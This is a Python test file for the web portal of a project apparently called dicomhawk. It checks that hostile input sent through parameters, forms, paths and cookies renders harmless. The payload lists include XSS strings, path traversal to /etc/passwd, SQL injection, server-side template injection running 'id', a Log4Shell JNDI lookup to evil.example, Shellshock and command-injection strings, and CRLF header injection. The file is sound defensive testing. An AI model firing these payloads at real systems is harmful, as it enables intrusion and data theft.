"""What attackers put into fields and parameters comes to nothing: no page breaks, nothing is run, nothing leaks."""

from __future__ import annotations

import asyncio
import html
import re
from collections.abc import Callable
from typing import Any

import pytest

from dicomhawk.sensor.web.portal.addresses import PARAMETERS
from dicomhawk.sensor.web.portal.listing import Wanted
from tests.sensor.web.portal.browser import Browser

Visit = Callable[[], Browser]

MARK = "zq7x"
SCRIPTS = (
    f"<script>{MARK}</script>",
    f'"><script>{MARK}</script>',
    f"'><img src=x onerror={MARK}>",
    f"</title><svg/onload={MARK}>",
    f"javascript:{MARK}",
    f'" onfocus={MARK} autofocus="',
    f"</textarea></select><iframe srcdoc={MARK}>",
    f"<!--<{MARK}-->",
    f"\u2028{MARK}\x00<b>",
)
TRAVERSALS = (
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd\x00.dcm",
    "file:///etc/passwd",
    "\\\\evil\\share",
)
ANYTHING = "*\\*\\*"
QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE study; --",
    "1 UNION SELECT sql FROM sqlite_master",
    ANYTHING,
    "%' AND 1=randomblob(1000000000) --",
    "\" OR visitor LIKE '%",
)
TEMPLATES = (
    "{{7*7}}",
    "{{config.__class__}}",
    "{%import os%}{{os.popen('id').read()}}",
    "${7*7}",
    "#{7*7}",
    "{0.__class__.__mro__}",
    "%(password)s",
)
OTHERS = (
    "${jndi:ldap://evil.example/a}",
    "() { :; }; /bin/id",
    "| id",
    "$(id)",
    "\r\nSet-Cookie: evil=1",
    "\ud800",
    "A" * 5000,
    "9" * 40,
    "-1",
    "1e999",
    "NaN",
    "0x41",
    "\u202e\u0000\ufeff",
)
PAYLOADS = (*SCRIPTS, *TRAVERSALS, *QUERIES, *TEMPLATES, *OTHERS)
_PLACES = ("study", "series", "object", "name", "identifier", "accession", "modality", "text", "status", "period")
_PLACES += (
    "from",
    "to",
    "sort",
    "descending",
    "page",
    "frame",
    "size",
    "level",
    "window",
    "next",
    "format",
    "action",
)


def run(coroutine: Any) -> Any:
    return asyncio.run(coroutine)


def assert_harmless(browser: Browser, answer: Any, payload: str) -> None:
    assert answer.status in (200, 204, 302, 403, 404, 405), (answer.status, payload)
    for name, value in answer.response.headers:
        assert "\r" not in value and "\n" not in value, name
        assert "evil" not in value.lower() or name == "Location", (name, value)
    text = answer.data.decode("utf-8", "replace")
    if answer.header("Content-Type").startswith("text/html"):
        assert not re.search(rf"<[^>]*{MARK}", re.sub(r'(value|href|content)="[^"]*"', "", text)), payload
        assert f"<script>{MARK}" not in text
        assert not re.search(r">\s*49\s*<", text)
    for leak in ("root:x:0", "Traceback (most", "sqlite3.", "jinja2", "CREATE TABLE", "<class '"):
        assert leak.lower() not in html.unescape(text).lower(), (leak, payload)


def test_nothing_comes_of_parameters(visit: Visit) -> None:
    async def story() -> None:
        browser = visit()
        await browser.sign_in("administrator")
        pages = ("worklist", "schedule", "study", "viewer", "image", "thumbnail", "report", "print", "download")
        pages += ("object", "login", "settings", "users", "audit", "about", "upload", "configuration")
        for number, payload in enumerate(PAYLOADS):
            for page in pages:
                places = _PLACES if page == "worklist" else _PLACES[number % 4 :: 4] + _PLACES[:3]
                values = dict.fromkeys(places, payload.encode("utf-8", "replace").decode())
                answer = await browser.get(browser.href(page, **values))
                assert_harmless(browser, answer, payload)

    run(story())


def test_nothing_comes_of_forms(visit: Visit, monkeypatch: pytest.MonkeyPatch) -> None:
    async def quick(seconds: float) -> None:
        return

    monkeypatch.setattr("dicomhawk.sensor.web.portal.entry.patiently", quick)

    async def story() -> None:
        browser, stranger = visit(), visit()
        await browser.sign_in("administrator")
        for payload in PAYLOADS:
            payload = payload.encode("utf-8", "replace").decode()
            every = dict.fromkeys(PARAMETERS, payload)
            for page in ("settings", "users", "nodes", "configuration"):
                shown = await browser.get(browser.href(page))
                token = shown.hidden(browser.skin.parameters["token"])
                for form in (every, every | {"token": token}, every | {"token": token, "action": "2"}):
                    assert_harmless(browser, await browser.post(browser.href(page), form), payload)
                assert_harmless(browser, await browser.get(browser.href(page)), payload)
            for page in ("login", "forgot"):
                shown = await stranger.get(stranger.href(page))
                token = shown.hidden(stranger.skin.parameters["token"])
                for form in (every, every | {"token": token}):
                    assert_harmless(stranger, await stranger.post(stranger.href(page), form), payload)
            assert_harmless(stranger, await stranger.post(stranger.href("telemetry"), every), payload)

    run(story())


def test_nothing_comes_of_paths_and_cookies(visit: Visit) -> None:
    async def story() -> None:
        browser = visit()
        for payload in PAYLOADS:
            payload = payload.encode("utf-8", "replace").decode()
            for path in (f"/{payload}", f"{browser.skin.base}/{payload}", f"{browser.skin.paths['study']}/{payload}"):
                assert_harmless(browser, await browser.get(path.replace("\r", "").replace("\n", "")), payload)
            browser.cookies = {browser.skin.cookie.name: payload, payload: payload}
            answer = await browser.get(browser.href("worklist"))
            assert answer.status == 302
            browser.cookies = {}

    run(story())


def test_wildcards_and_quotes_find_no_more_than_they_mean(visit: Visit) -> None:
    async def story() -> None:
        browser = visit()
        await browser.sign_in()
        desk = browser.desk
        for payload in set(QUERIES) - {ANYTHING}:
            for field in ("name", "identifier", "accession", "text"):
                found = await desk.listing.studies(Wanted(**{field: payload}), browser.visitor, desk.clock())
                assert found.studies == [], (field, payload)

    run(story())


def test_bodies_are_bounded(visit: Visit) -> None:
    async def story() -> None:
        browser = visit()
        kind = ("Content-Type", "application/x-www-form-urlencoded")
        for body in (
            b"a=" + b"x" * 200_000,
            b"&".join(b"%d=1" % n for n in range(5000)),
            b"\xff\xfe=%zz&=&&=",
            b"%" * 999,
        ):
            answer = await browser.ask("POST", browser.href("login"), body, (kind,))
            assert answer.status == 200

    run(story())
